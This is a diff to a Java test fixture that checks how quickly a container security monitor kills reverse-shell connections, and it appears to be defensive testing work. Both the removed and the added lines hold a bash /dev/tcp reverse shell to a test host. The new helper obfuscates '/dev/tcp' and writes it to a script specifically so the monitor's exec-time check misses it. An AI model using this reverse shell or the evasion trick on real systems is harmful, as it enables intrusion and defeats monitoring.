@@ -56,13 +56,23 @@ final class MonitorFixtures {
      */
     static void reverseShellIsStopped(IncusClient incus, TestHosts hosts, String container, String label) throws Exception {
         TestHosts.assertRoutedLocally();
-        inside(incus, container, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + TestHosts.INTERNET.getFirst() + "/"
-                + TestHosts.HOLD_PORTS.getFirst() + " 0>&1'");
+        startReverseShell(incus, container);
         awaitGone(incus, container, 10);
         List<Double> closed = closed(hosts.holdLog);
         assertThat(closed).hasSize(1);
         System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", label, closed.getFirst());
         assertThat(closed.getFirst()).isLessThan(1.0);
+    }
+
+    /**
+     * Starts a detached bash /dev/tcp reverse shell to the hold host as code, from a script whose
+     * command line does not give it away: the monitor also reads every process at its exec, and a
+     * command line naming /dev/tcp would be stopped there, before it connects, leaving nothing to
+     * time. The script is written without that text in any command line either.
+     */
+    static void startReverseShell(IncusClient incus, String container) {
+        inside(incus, container, 1000, "d=/dev; t=tcp; echo \"bash -i >& $d/$t/" + TestHosts.INTERNET.getFirst() + "/"
+                + TestHosts.HOLD_PORTS.getFirst() + " 0>&1\" > /tmp/coitest-rs.sh && setsid -f bash /tmp/coitest-rs.sh");
     }
 
     /** Seconds each held connection lived, in the order they ended. */
